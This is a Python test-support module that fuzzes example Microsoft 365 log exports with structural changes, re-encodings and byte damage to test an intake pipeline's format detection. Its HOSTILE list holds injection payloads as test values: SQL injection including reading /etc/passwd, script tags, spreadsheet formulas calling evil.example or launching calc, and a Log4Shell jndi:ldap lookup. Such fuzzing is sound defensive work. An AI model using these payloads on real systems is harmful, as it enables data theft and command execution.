"""Mutated copies of the examples of every format file: what an export may look like after a spreadsheet, a script, a
broken disk or an attacker had it in hands, and what must still hold of it. Holding intake to that stands in
`accounting`."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from m365dq_dagster.adapters.evidence.formats import Detection, parse_formats
from tests.support.intake_case import shipped_formats

NO_LOGS = ("text", "manifest", "translation", "envelope")
DELIMITERS = (",", ";", "\t", "|")
LINE_ENDS = ("\n", "\r\n", "\r")
CELL_LIMIT = 32_767
HOSTILE = (
    "'; DROP TABLE files; --",
    "\"; COPY (SELECT * FROM read_text('/etc/passwd')) TO '/tmp/m365dq-stolen'; --",
    "<script>alert(1)</script>&lt;",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07",
    "a\x00b",
    "\u202egpj.exe",
    "{{7*7}} ${jndi:ldap://evil.example/a} $file_id ?1 :x",
    "{'a': {'b': ['c']}} \\",
    '{"a": "\\ud800"}',
    "NaN",
    "",
    " ",
    "\r\n\r\n",
    "\ufeff",
    "9" * 400,
)  # fmt: skip
_GUID = re.compile(r"(?i)(?<![0-9a-f])(?!00000000)([0-9a-f]{8}-(?:[0-9a-f]{4}-){3})([0-9a-f]{12})(?![0-9a-f])")


@dataclass(frozen=True)
class Example:
    """One file of a format's examples, taken apart: the header and rows of a table, or the texts of the records of a
    document. `sound` says that every record of it could be told."""

    format: str
    log_type: str
    name: str
    path: str
    text: str
    header: tuple[str, ...] = ()
    rows: tuple[tuple[str, ...], ...] = ()
    records: tuple[str, ...] = ()
    sound: bool = False

    @property
    def is_table(self) -> bool:
        """True where the file is a table."""
        return not self.text.lstrip("\ufeff \t\r\n").startswith(("{", "["))


@dataclass
class Draft:
    """A file in the making, and what intake must say of it as far as that is known.

    `rows` is how many records it holds, `same` says that it tells the very events of its example, `copies` how many
    of its records repeat another one, `known` that its format must be recognised."""

    example: Example
    rng: random.Random
    header: list[str] = field(default_factory=list)
    cells: list[list[str]] = field(default_factory=list)
    records: list[str] = field(default_factory=list)
    delimiter: str = ","
    line_end: str = "\n"
    quoting: Any = csv.QUOTE_MINIMAL
    before: str = ""
    shape: str = "lines"
    strays: list[tuple[int, str]] = field(default_factory=list)
    blanks: bool = False
    open_end: bool = False
    encoding: str = "utf-8"
    applied: list[str] = field(default_factory=list)
    rows: int | None = 0
    same: bool = True
    copies: int = 0
    known: bool = True
    times: int = 1
    raw: bytes = b""


@dataclass(frozen=True)
class Mutated:
    """A file as it lies in the folder, with what must hold of it. The example with the changes that were `asked` for
    and the seed gives it again. It tells the events of its example `times` over, each time under other identifiers."""

    example: Example
    raw: bytes
    asked: tuple[str, ...]
    seed: int
    applied: tuple[str, ...]
    rows: int | None
    same: bool
    copies: int
    known: bool
    times: int = 1


Step = Callable[[Draft], bool]
"""Changes a draft; False where the file gives no occasion for it."""


@cache
def examples() -> tuple[Example, ...]:
    """Every example of every format that holds a log."""
    formats = {str(data["id"]): data for data in shipped_formats()}
    return tuple(
        _taken_apart(data, example, _log_type(data, formats))
        for data in formats.values()
        if data.get("container") not in NO_LOGS
        for example in data.get("examples", ())
    )


def _log_type(data: dict[str, Any], formats: dict[str, dict[str, Any]]) -> str:
    return str(data["log_type"]) if "log_type" in data else _log_type(formats[data["like"]], formats)


def _taken_apart(data: dict[str, Any], example: dict[str, Any], log_type: str) -> Example:
    text = str(example["text"]) if "text" in example else "\n".join(example["lines"])
    for mark, length in example.get("fill", {}).items():
        text = text.replace(mark, "x" * length)
    found = Example(str(data["id"]), log_type, str(example["name"]), str(example.get("path", "export.txt")), text)
    parts = _table_of(text) if found.is_table else _records_of(text)
    return Example(*_plain(found), **parts, sound=bool(parts))


def _plain(found: Example) -> tuple[str, str, str, str, str]:
    return found.format, found.log_type, found.name, found.path, found.text


def _table_of(text: str) -> dict[str, Any]:
    lines = io.StringIO(text.lstrip("\ufeff"), newline="").readlines()
    while lines and (not lines[0].strip() or lines[0].startswith(("#TYPE", "sep="))):
        lines.pop(0)
    csv.field_size_limit(1 << 28)
    best = max(DELIMITERS, key=lambda mark: len(next(csv.reader(lines, delimiter=mark), [])))
    try:
        header, *rows = [tuple(row) for row in csv.reader(lines, delimiter=best, strict=True) if row]
    except (csv.Error, ValueError):
        return {}
    return {"header": header, "rows": tuple(rows)} if all(len(row) == len(header) for row in rows) else {}


def _records_of(text: str) -> dict[str, Any]:
    body, at, found = text.lstrip("\ufeff"), 0, []
    if opened := re.match(r'\s*\{\s*(?:"@odata[^"]*"\s*:\s*"[^"]*"\s*,\s*)*"[Vv]alue"\s*:\s*\[', body):
        body = body[opened.end() - 1 :]
    decoder = json.JSONDecoder()
    try:
        while begins := re.compile(r"[\s,\[\]]*(?=\{)").match(body, at):
            at = decoder.raw_decode(body, begins.end())[1]
            found.append(body[begins.end() : at])
    except ValueError:
        return {}
    rest = re.sub(r'"@odata[^"]*"\s*:\s*"[^"]*"', "", body[at:])
    return {"records": tuple(found)} if found and not rest.strip(" \t\r\n,]}") else {}


def drafted(example: Example, rng: random.Random) -> Draft:
    """The example as it stands, before anything happens to it."""
    cells = [list(row) for row in example.rows]
    count = len(cells) if example.is_table else len(example.records)
    return Draft(example, rng, list(example.header), cells, list(example.records), rows=count)


def grow(draft: Draft) -> bool:
    """Many times as many records, under other identifiers; once, since the identifiers are told apart by turns."""
    if draft.times > 1:
        return False
    draft.times = draft.rng.choice((2, 2, 3, 5, 8, 8, 20))
    turns = [turn << 20 for turn in range(draft.times)]
    draft.cells = [[salted(cell, turn) for cell in row] for turn in turns for row in draft.cells]
    draft.records = [salted(record, turn) for turn in turns for record in draft.records]
    draft.rows = None if draft.rows is None else draft.rows * draft.times
    return True


def shuffle(draft: Draft) -> bool:
    """Records in another order."""
    target: list[Any] = draft.cells if draft.example.is_table else draft.records
    draft.rng.shuffle(target)
    return len(target) > 1


def drop(draft: Draft) -> bool:
    """Some records less."""
    target: list[Any] = draft.cells if draft.example.is_table else draft.records
    gone = draft.rng.randrange(1, len(target)) if len(target) > 1 else 0
    for _ in range(gone):
        target.pop(draft.rng.randrange(len(target)))
    draft.rows = None if draft.rows is None else draft.rows - gone
    draft.same, draft.known = False, draft.known and draft.example.is_table and not _told_by_values(draft.example)
    return bool(gone)


def duplicate(draft: Draft) -> bool:
    """Some records twice."""
    target: list[Any] = draft.cells if draft.example.is_table else draft.records
    times = draft.rng.randrange(1, 4) if target else 0
    for _ in range(times):
        chosen = draft.rng.choice(target)
        target.insert(draft.rng.randrange(len(target) + 1), list(chosen) if draft.example.is_table else chosen)
    draft.rows = None if draft.rows is None else draft.rows + times
    draft.copies += times
    return bool(times)


def reorder_columns(draft: Draft) -> bool:
    """Columns or keys in another order; those of one name keep theirs."""
    if not draft.example.is_table:
        return _each_record(draft, _reordered)
    order = draft.rng.sample(range(len(draft.header)), len(draft.header))
    names = [_key(name) for name in draft.header]
    for at, column in enumerate(order):
        earlier = [other for other in order[at:] if names[other] == names[column] and other < column]
        if earlier:
            order[order.index(min(earlier))], order[at] = column, min(earlier)
    draft.header = [draft.header[at] for at in order]
    draft.cells = [[row[at] for at in order] for row in draft.cells]
    return True


def drop_columns(draft: Draft) -> bool:
    """Columns or keys gone that detection does not need."""
    needed = {_key(name) for name in needed_names(draft.example.format)}
    if not draft.example.is_table:
        draft.same = False
        return _each_record(draft, lambda record, rng: _thinned(record, needed, rng))
    optional = [at for at, name in enumerate(draft.header) if _key(name) not in needed]
    gone = set(draft.rng.sample(optional, draft.rng.randrange(len(optional)) if optional else 0))
    draft.header = [name for at, name in enumerate(draft.header) if at not in gone]
    draft.cells = [[cell for at, cell in enumerate(row) if at not in gone] for row in draft.cells]
    draft.same = draft.same and not gone
    return bool(gone)


def pad_headers(draft: Draft) -> bool:
    """Blanks around and within column names."""
    draft.header = [
        draft.rng.choice(("", " ", "  ", "\t")) + name.replace(" ", "  ") + draft.rng.choice(("", " ", "\u200b"))
        for name in draft.header
    ]
    return draft.example.is_table


def recase_headers(draft: Draft) -> bool:
    """Column names in capitals or in small letters."""
    turn = draft.rng.choice((str.upper, str.lower))
    draft.header = [turn(name) if turn(name).casefold() == name.casefold() else name for name in draft.header]
    return draft.example.is_table


def double_header(draft: Draft) -> bool:
    """A column name that occurs again, over blank cells."""
    if draft.example.is_table:
        draft.header.append(draft.rng.choice(draft.header))
        draft.cells = [[*row, ""] for row in draft.cells]
    return draft.example.is_table


def strange_column(draft: Draft) -> bool:
    """A column or key that nobody knows, with a hostile name and hostile values."""
    name, value = draft.rng.choice(HOSTILE).strip() or "x", draft.rng.choice(HOSTILE)
    if draft.example.is_table:
        draft.header.append(name.replace("\ufeff", "") or "x")
        draft.cells = [[*row, value] for row in draft.cells]
        return True
    return _each_record(draft, lambda record, rng: {**record, name: value})


def hostile_value(draft: Draft) -> bool:
    """A hostile text in place of a value."""
    draft.same = False
    return _change_value(draft, draft.rng.choice(HOSTILE))


def huge_value(draft: Draft) -> bool:
    """A cell of a megabyte."""
    draft.same = False
    return _change_value(draft, draft.rng.choice(("x", '"', "é", "\n", "{", "\\")) * (1 << 20))


def cut_cell(draft: Draft) -> bool:
    """The longest cell filled up and cut at the limit of a spreadsheet."""
    draft.same = False
    if not draft.cells or not draft.example.is_table:
        return False
    row = draft.rng.choice(draft.cells)
    at = max(range(len(row)), key=lambda place: len(row[place]))
    row[at] = (row[at].rstrip("}") + ', "Filling": "' + "x" * CELL_LIMIT)[:CELL_LIMIT]
    return True


def delimit(draft: Draft) -> bool:
    """Another delimiter."""
    draft.delimiter = draft.rng.choice(DELIMITERS[1:])
    return draft.example.is_table


def quote_all(draft: Draft) -> bool:
    """Every cell in quotes."""
    draft.quoting = csv.QUOTE_ALL
    return draft.example.is_table


def end_lines(draft: Draft) -> bool:
    """Other line ends, or several kinds of them."""
    draft.line_end = draft.rng.choice(("\r\n", "\r", "mixed"))
    return draft.example.is_table or draft.line_end == "\r\n"


def type_line(draft: Draft) -> bool:
    """The line that PowerShell writes in front."""
    draft.before = "#TYPE System.Management.Automation.PSCustomObject\n" + draft.before
    return draft.example.is_table


def separator_line(draft: Draft) -> bool:
    """The line that tells a spreadsheet the delimiter."""
    draft.before = "sep=\n" + draft.before.replace("sep=\n", "")
    return draft.example.is_table


def blank_lines(draft: Draft) -> bool:
    """Blank lines between records."""
    draft.blanks = True
    return True


def no_last_end(draft: Draft) -> bool:
    """No line end after the last record."""
    draft.open_end = True
    return True


def wrap(draft: Draft) -> bool:
    """Another layout of a document."""
    draft.shape = draft.rng.choice(("array", "value", "pages", "arrays", "bare", "pretty", "pretty lines", "lines,"))
    return not draft.example.is_table


def stray_record(draft: Draft) -> bool:
    """A record that is none, on a line of its own."""
    table = (
        "x",
        "only one cell and a half",
        "\x00" * 5,
        ",".join("abcdefghij" * 60),
        '"a lost quote',
        'b"roken" quotes,"x"y',
        "\ud800 half a pair",
        "\u2028",
    )
    document = (
        "5",
        '"text"',
        "null",
        "[]",
        "NaN",
        '{"a": 1}',
        "{}",
        '{"deep": ' + "[" * 3000 + "]" * 3000 + "}",
        '{"broken": ',
        "not json at all",
        '{"a": NaN, "b": Infinity}',
        '{"a": "\\ud800", "\\udfff": 1}',
        "\x00",
    )
    for _ in range(draft.rng.randrange(1, 4)):
        place = draft.rng.randrange(len(draft.cells or draft.records or "x") + 1)
        draft.strays.append((place, draft.rng.choice(table if draft.example.is_table else document)))
    draft.rows, draft.same, draft.known = None, False, draft.known and draft.example.is_table
    return True


def short_record(draft: Draft) -> bool:
    """A record of a table with a cell too few."""
    width = len(draft.header)
    if not draft.example.is_table or width < 3 or draft.strays:
        return False
    draft.strays.append((draft.rng.randrange(len(draft.cells) + 1), draft.delimiter.join(["x"] * (width - 1))))
    draft.rows = None if draft.rows is None else draft.rows + 1
    draft.same = False
    return True


def encode(draft: Draft) -> bool:
    """Another encoding, with and without a mark in front."""
    draft.encoding = draft.rng.choice(("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-16-be-sig", "cp1252"))
    return True


def truncate(draft: Draft) -> bool:
    """The file ends somewhere."""
    draft.raw = draft.raw[: draft.rng.randrange(len(draft.raw) + 1)]
    return _anything(draft)


def flip(draft: Draft) -> bool:
    """Some bytes are others."""
    body = bytearray(draft.raw)
    for _ in range(draft.rng.choice((1, 1, 2, 5, 40)) if body else 0):
        at = draft.rng.randrange(len(body))
        body[at] = draft.rng.choice((draft.rng.randrange(256), *b'"\x00\n\r,;\\{}[]\xff\xed'))
    draft.raw = bytes(body)
    return _anything(draft)


def splice(draft: Draft) -> bool:
    """A piece of the file stands in another place, or twice."""
    if len(draft.raw) < 10:
        return False
    begin = draft.rng.randrange(len(draft.raw) - 5)
    end = draft.rng.randrange(begin, len(draft.raw))
    at = draft.rng.randrange(len(draft.raw))
    draft.raw = draft.raw[:at] + draft.raw[begin:end] + draft.raw[at:]
    return _anything(draft)


STRUCTURE: dict[str, Step] = {
    step.__name__: step
    for step in (shuffle, drop, duplicate, reorder_columns, drop_columns, pad_headers, recase_headers, double_header,
                 strange_column, hostile_value, cut_cell, delimit, quote_all, end_lines, type_line, separator_line,
                 blank_lines, no_last_end, wrap, stray_record, short_record, encode)
}  # fmt: skip
"""Changes of what a file says and of how it is written."""

RARE: dict[str, Step] = {step.__name__: step for step in (grow, huge_value)}
DAMAGE: dict[str, Step] = {step.__name__: step for step in (truncate, flip, splice)}
"""Changes of the bytes of a written file."""

KEEPING = frozenset({"grow", "shuffle", "reorder_columns", "pad_headers", "recase_headers", "double_header",
                     "strange_column", "delimit", "quote_all", "end_lines", "type_line", "separator_line",
                     "blank_lines", "no_last_end", "wrap", "encode"})  # fmt: skip
"""Changes after which a file still tells the very same events."""


def mutated(example: Example, names: Sequence[str], seed: int, salt: int = 0) -> Mutated:
    """The example after these changes, which the seed works out; one that finds no occasion leaves no trace."""
    draft = drafted(example, random.Random(seed))
    steps = {**STRUCTURE, **RARE}
    for name in names if example.sound else ():
        before = (draft.same, draft.known)
        if name in steps:
            if steps[name](draft):
                draft.applied.append(name)
            else:
                draft.same, draft.known = before
    draft.raw = _written(draft, salt)
    for name in names:
        if name in DAMAGE and DAMAGE[name](draft):
            draft.applied.append(name)
    rows = draft.rows if example.sound else None
    known, same = draft.known and example.sound, draft.same and example.sound
    return Mutated(
        example, draft.raw, tuple(names), seed, tuple(draft.applied), rows, same, draft.copies, known, draft.times
    )


def chosen_steps(rng: random.Random) -> list[str]:
    """A handful of changes: most files stay whole, some are damaged, a few hold a cell of a megabyte."""
    names = ["grow"] if rng.random() < 0.5 else []
    names += rng.sample(sorted(STRUCTURE), rng.choice((0, 1, 1, 2, 2, 3, 4)))
    if rng.random() < 0.35:
        names += rng.sample(sorted(DAMAGE), rng.choice((1, 1, 2)))
    if rng.random() < 0.01:
        names.insert(1, "huge_value")
    return names


def unnamed(text: str) -> str:
    """The text without what salting changes."""
    return _GUID.sub(lambda found: found[1].lower() + "*", text)


def has_name(text: str) -> bool:
    """True where the whole text is an identifier that salting changes."""
    return _GUID.fullmatch(text) is not None


def salted(text: str, salt: int) -> str:
    """The text with other identifiers, so that files of one folder hold no copies of each other; salting twice with the
    same number gives the text back."""
    return _GUID.sub(lambda found: found[1] + f"{int(found[2], 16) ^ salt:012x}", text) if salt else text


@cache
def needed_names(format_id: str) -> frozenset[str]:
    """Every name that the detection of a format looks at, in every language."""
    detect = _detection(format_id)
    names = {*detect.filled, *detect.values, *(name for group in detect.require for name in group)}
    return frozenset({name.split(".")[0] for name in names} | names)


@cache
def _detection(format_id: str) -> Detection:
    return next(one.detect for one in parse_formats(shipped_formats()) if one.id == format_id)


def _told_by_values(example: Example) -> bool:
    detect = _detection(example.format)
    return bool(detect.values or detect.filled)


def _anything(draft: Draft) -> bool:
    draft.rows, draft.same, draft.known, draft.copies = None, False, False, 0
    return True


def _key(name: str) -> str:
    return re.sub(r"[\s\u200b\ufeff]+", " ", name).strip().casefold()


def _change_value(draft: Draft, value: str) -> bool:
    """Another value in a place that neither detection nor an event's name rests on."""
    draft.known = draft.known and draft.example.is_table and not _told_by_values(draft.example)
    if draft.example.is_table:
        if not draft.cells:
            return False
        row = draft.rng.choice(draft.cells)
        row[draft.rng.randrange(len(row))] = value
        return True
    at = draft.rng.randrange(len(draft.records))
    record = _loaded(draft.records[at])
    if not record:
        return False
    record[draft.rng.choice(list(record))] = value
    draft.records[at] = json.dumps(record, ensure_ascii=draft.rng.random() < 0.5)
    return True


def _each_record(draft: Draft, change: Callable[[dict[str, Any], random.Random], dict[str, Any]]) -> bool:
    records = [_loaded(text) for text in draft.records]
    if not all(records):
        return False
    draft.records = [json.dumps(change(record, draft.rng), ensure_ascii=False) for record in records if record]
    return True


def _loaded(text: str) -> dict[str, Any] | None:
    """The record, or None where reading it would lose something: a key that occurs twice."""
    pairs: list[list[str]] = []

    def kept(found: list[tuple[str, Any]]) -> dict[str, Any]:
        pairs.append([_key(name) for name, _ in found])
        return dict(found)

    value = json.loads(text, object_pairs_hook=kept)
    return value if isinstance(value, dict) and all(len(set(names)) == len(names) for names in pairs) else None


def _reordered(record: dict[str, Any], rng: random.Random) -> dict[str, Any]:
    return {name: record[name] for name in rng.sample(list(record), len(record))}


def _thinned(record: dict[str, Any], needed: set[str], rng: random.Random) -> dict[str, Any]:
    envelope = needed.isdisjoint(map(_key, record))
    kept = {
        name
        for name, value in record.items()
        if isinstance(value, list) or _key(name) in needed or (envelope and isinstance(value, dict))
    }
    return {name: value for name, value in record.items() if name in kept or rng.random() < 0.8}


def _written(draft: Draft, salt: int) -> bytes:
    if not draft.example.sound:
        text = draft.example.text
    else:
        text = _table_text(draft) if draft.example.is_table else _document_text(draft)
    return _encoded(draft, salted(text, salt))


def _table_text(draft: Draft) -> str:
    ends = iter(lambda: draft.rng.choice(LINE_ENDS) if draft.line_end == "mixed" else draft.line_end, "")
    before = draft.before.replace("sep=", f"sep={draft.delimiter}")
    if "sep=" not in before and len(draft.header) < 3:
        draft.delimiter = ","
    pieces = [line + next(ends) for line in before.splitlines()]
    pieces.append(_line(draft, draft.header) + next(ends))
    for at, row in enumerate([*draft.cells, None]):
        pieces += [stray + next(ends) for place, stray in draft.strays if min(place, len(draft.cells)) == at]
        if row is not None:
            pieces.append(_line(draft, row) + next(ends))
        if draft.blanks and draft.rng.random() < 0.4:
            pieces.append(draft.rng.choice(("", " ", "\t ")).replace(draft.delimiter, "") + next(ends))
    return _ended(draft, "".join(pieces))


def _line(draft: Draft, cells: Sequence[str]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=draft.delimiter, quoting=draft.quoting, lineterminator="\r\n").writerow(cells)
    return out.getvalue().removesuffix("\r\n")


def _ended(draft: Draft, text: str) -> str:
    return text.rstrip("\r\n") if draft.open_end else text


def _document_text(draft: Draft) -> str:
    records = list(draft.records)
    for place, stray in sorted(draft.strays, reverse=True):
        records.insert(place, stray)
    if draft.shape.startswith("pretty"):
        records = [_pretty(text) for text in records]
    elif draft.shape in ("lines", "lines,"):
        records = [_on_one_line(text) for text in records]
    between = ",\n" if draft.shape not in ("lines", "bare", "pretty lines") else "\n"
    if draft.blanks:
        between = draft.rng.choice((between + "\n", between + " \n", "\n" + between))
    middle = draft.rng.randrange(len(records) + 1)
    layouts: dict[str, Callable[[], str]] = {
        "array": lambda: "[" + between.join(records) + "]\n",
        "pretty": lambda: "[\n" + between.join(records) + "\n]\n",
        "value": lambda: _page(between.join(records)),
        "pages": lambda: _page(between.join(records[:middle])) + "\n" + _page(between.join(records[middle:])),
        "arrays": lambda: "[" + between.join(records[:middle]) + "]\n[" + between.join(records[middle:]) + "]",
    }
    text = layouts.get(draft.shape, lambda: between.join(records) + "\n")()
    return _ended(draft, text.replace("\n", "\r\n") if draft.line_end == "\r\n" else text)


def _page(records: str) -> str:
    return (
        '{"@odata.context": "https://graph.example/v1.0/$metadata#x", "value": ['
        + records
        + '], "@odata.nextLink": "https://graph.example/next?$skiptoken=]}"}'
    )


def _pretty(text: str) -> str:
    try:
        return json.dumps(json.loads(text), indent=2, ensure_ascii=False) if _loaded(text) else text
    except (ValueError, RecursionError):
        return text


def _on_one_line(text: str) -> str:
    try:
        return text if "\n" not in text else json.dumps(json.loads(text), ensure_ascii=False)
    except ValueError:
        return text


def _encoded(draft: Draft, text: str) -> bytes:
    wanted = draft.encoding
    plain = all(ord(char) < 256 and char != "\x00" for char in text[:4096])
    if wanted in ("utf-16-le", "utf-16-be") and not plain:
        wanted = "utf-16"
    if wanted == "cp1252" and not _survives_windows_1252(text):
        wanted = "utf-8"
    if wanted == "utf-16-be-sig":
        return b"\xfe\xff" + text.encode("utf-16-be", "surrogatepass")
    return text.encode(wanted, "strict" if wanted == "cp1252" else "surrogatepass")


def _survives_windows_1252(text: str) -> bool:
    try:
        raw = text.encode("cp1252")
    except UnicodeEncodeError:
        return False
    try:
        return raw.decode("utf-8") == text
    except UnicodeDecodeError:
        return True
